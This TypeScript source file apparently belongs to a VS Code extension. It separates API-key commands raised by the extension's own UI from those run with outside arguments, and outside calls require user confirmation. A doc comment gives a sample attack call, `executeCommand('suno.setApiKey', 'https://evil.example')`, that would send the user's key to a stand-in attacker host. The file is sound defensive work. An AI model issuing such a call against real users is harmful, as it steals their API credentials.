/**
 * How the extension's own UI names a gateway when it runs `suno.setApiKey` or `suno.clearApiKey`
 * (an auth error about tasks tracked at another gateway, "Set API Key…" on a notification).
 *
 * Any extension, and any `command:` link, can run these commands with arguments of its choosing,
 * e.g. `executeCommand('suno.setApiKey', 'https://evil.example')` to have the user type their key
 * into a prompt for another host. Only this extension can make an `ApiKeyRequest` (the class never
 * leaves its bundle), and commands run inside one extension host get their arguments as the very
 * objects passed: an argument of any other kind came from outside, and the command asks first.
 */
export class ApiKeyRequest {
  constructor(readonly baseUrl: string) {}
}

/** Who asked for a key command, and for which gateway (undefined: the configured one). */
interface KeyCommandInvocation {
  readonly baseUrl: string | undefined;
  /** Run with arguments that this extension's UI did not make: the user must confirm. */
  readonly fromOutside: boolean;
}

export function keyCommandInvocation(args: readonly unknown[]): KeyCommandInvocation {
  const [first] = args;
  if (first instanceof ApiKeyRequest) return { baseUrl: first.baseUrl, fromOutside: false };
  if (args.every((argument) => argument === undefined || argument === null)) return { baseUrl: undefined, fromOutside: false };
  return { baseUrl: typeof first === 'string' && first.trim() !== '' ? first : undefined, fromOutside: true };
}
